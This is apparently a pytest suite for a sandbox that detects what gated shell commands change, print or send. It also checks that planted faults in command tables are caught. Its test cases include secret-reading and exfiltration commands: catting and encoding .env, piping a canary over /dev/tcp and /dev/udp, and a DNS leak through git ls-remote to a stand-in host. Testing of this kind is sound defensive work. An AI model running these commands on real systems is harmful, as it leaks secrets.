"""`make effects` runs what the gate allows: here it is seen that it would find what changes."""

from __future__ import annotations

import time
from itertools import islice

import pytest

from effects import hunt, planted
from effects.arguments import tools
from effects.claims import allowing_rules, unexcused
from effects.hunt import Hunt, commands_by_table, random_commands
from effects.isolation import isolation
from effects.knowledge import with_hole
from effects.planted import FAULTS
from effects.scratch import Scratch
from laconic.reading.places import Facts
from machine import needs

SEED = 20
EACH_SECONDS = 5
MOST_BY_CHANCE = 300
GUARD = isolation()

pytestmark = pytest.mark.skipif(GUARD is None, reason="nothing here takes root's rights away")


@pytest.fixture(scope="module")
def scratch():
    made = Scratch()
    yield made
    made.close()


@pytest.mark.parametrize(
    ("command", "change"),
    [
        ("touch made", "made empty work/made"),
        ("echo x > made", "made work/made"),
        ("mkdir made", "made work/made"),
        ("touch a", "changed work/a"),
        ("printf x | dd of=a conv=notrunc", "changed work/a"),
        ("chmod 700 a", "changed work/a"),
        ("rm a", "removed work/a"),
        ("mv docs papers", "removed work/docs/readme.md"),
        ("ln -sf b link", "changed work/link"),
        ("touch ~/.cache", "made empty home/.cache"),
        ("echo >> ../outside/kept.txt", "changed outside/kept.txt"),
        ("rm named.txt", "removed work/named.txt"),
        ("rmdir named/", "removed work/named"),
        ("./p.sh", "made outside/traces"),
        ("evil", "made outside/traces"),
        ("(sleep 0.1; touch made) > /dev/null 2>&1 & wait", "made empty work/made"),
    ],
)
def test_a_change_is_seen(scratch, command, change):
    assert change in scratch.changes(command, seconds=30)
    assert scratch.changes("cat a", seconds=30) == []


@pytest.fixture(scope="module")
def hostile():
    made = Scratch(is_hostile=True)
    yield made
    made.close()


needs_listeners = pytest.mark.skipif(
    not (GUARD and GUARD.is_closed), reason="namespaces are not permitted"
)


@needs_listeners
@pytest.mark.parametrize(
    ("command", "finding"),
    [
        ("cat .env", "printed a secret"),
        ("openssl base64 -in .env", "printed a secret"),
        ("od -An -tx1 .env | tr -d ' \\n'", "printed a secret"),
        ("exec 3<>/dev/tcp/127.0.0.1/9999; echo x$CANARY >&3", "sent a secret"),
        ("echo $CANARY > /dev/udp/127.0.0.1/53", "sent a secret"),
        ("git ls-remote git://$CANARY.example.com/x", "sent a secret"),
        ("PATH=; ls", "made outside/traces"),
        ("make -n", "made outside/traces"),
        ("sleep 30 > /dev/null 2>&1 &", "left sleep running"),
    ],
)
def test_a_hostile_place_shows_what_is_run_printed_and_sent(hostile, command, finding):
    assert finding in hostile.changes(command, seconds=30)
    assert hostile.changes("cat a; /bin/ls; git status", seconds=30) == []


def test_what_runs_is_stopped_with_its_children_when_its_time_is_over(scratch):
    start = time.monotonic()
    assert scratch.changes("(sleep 60; touch made) & sleep 60", seconds=0.2) == []
    assert time.monotonic() - start < 30
    assert scratch.was_stopped
    scratch.changes("cat a", seconds=30)
    assert not scratch.was_stopped


@pytest.mark.skipif(not (GUARD and GUARD.is_closed), reason="namespaces are not permitted")
def test_what_runs_has_no_network_and_sees_no_other_processes(scratch):
    networks = "tail -n +3 /proc/net/dev | grep -v ' lo:'"
    processes = "[ $(ls -d /proc/[0-9]* | wc -l) -gt 9 ]"
    assert scratch.changes(f"{networks} && touch made", seconds=30) == []
    assert scratch.changes(f"{processes} && touch made", seconds=30) == []


def test_an_excuse_holds_for_one_command_and_one_place_only():
    changes = ["made work/.git/refs/heads/x", "removed work/a"]
    assert unexcused(changes, frozenset({"git/branch"})) == ["removed work/a"]
    assert unexcused(changes, frozenset({"git/branches"})) == changes


@pytest.mark.parametrize("fault", FAULTS, ids=[fault.target for fault in FAULTS])
def test_what_a_planted_fault_replaces_is_there(fault):
    with fault.planted():
        pass


# What a mistake in a table looks like: an output file or a second operand that passes for plain
# text, a command that nobody judges, a guard that is missing.
HOLES = [
    ("sort", {"options": "-o=V --output=V"}),
    ("uniq", {"operands": "READ V"}),
    ("nice", {"operands": "V..."}),
    ("patch", {"needs": None, "code": None}),
]
closed = pytest.mark.skipif(not (GUARD and GUARD.is_closed), reason="needs a closed place")


@closed
@pytest.mark.parametrize(
    ("path", "keys"), [pytest.param(*hole, id=hole[0], marks=needs(hole[0])) for hole in HOLES]
)
def test_a_hole_in_a_table_is_found(path, keys):
    knowledge = with_hole(path, **keys)
    # What is refused without the hole: the rest does no harm, or the hunt would have told.
    by_table = commands_by_table(SEED, only={path}, knowledge=knowledge)
    commands = [command for command in by_table if allowing_rules(command, Facts()) is None]
    found = Hunt(commands, EACH_SECONDS, knowledge, enough=1).run()
    assert found.findings


@closed
def test_a_hole_in_a_table_is_found_by_chance_too():
    path, keys = HOLES[0]
    knowledge = with_hole(path, **keys)
    commands = islice(random_commands(SEED, tools().keys() - {path}, knowledge), MOST_BY_CHANCE)
    found = Hunt(commands, EACH_SECONDS, knowledge, enough=1).run()
    assert found.findings


@closed
@pytest.mark.parametrize(
    ("command", "has_missed", "status"),
    [("cat a", False, 0), ("touch made", False, 1), ("cat a", True, 1)],
)
def test_the_exit_status_tells_of_findings_and_of_missed_faults(
    monkeypatch, command, has_missed, status
):
    monkeypatch.setattr("sys.argv", ["hunt", "1", "0"])
    monkeypatch.setattr(hunt, "parts", lambda *_: [hunt.Part("one", [command], EACH_SECONDS)])
    monkeypatch.setattr(hunt, "allowing_rules", lambda *_, **__: frozenset())
    monkeypatch.setattr(planted, "main", lambda: int(has_missed))
    assert hunt.main() == status


@closed
def test_a_planted_fault_is_found(monkeypatch):
    """`make effects` plants all of them."""
    fault = next(fault for fault in FAULTS if fault.target.endswith("redirect_findings"))
    monkeypatch.setattr(planted, "FAULTS", (fault,))
    assert planted.main() == 0


def test_a_planted_fault_that_cannot_be_looked_for_is_not_found(monkeypatch, capsys):
    monkeypatch.setattr(planted, "FAULTS", (planted.Fault("x.y", None, "nosuchprogram"),))
    assert planted.main() == 1
    assert "nosuchprogram, which is not installed, would show: x.y" in capsys.readouterr().out
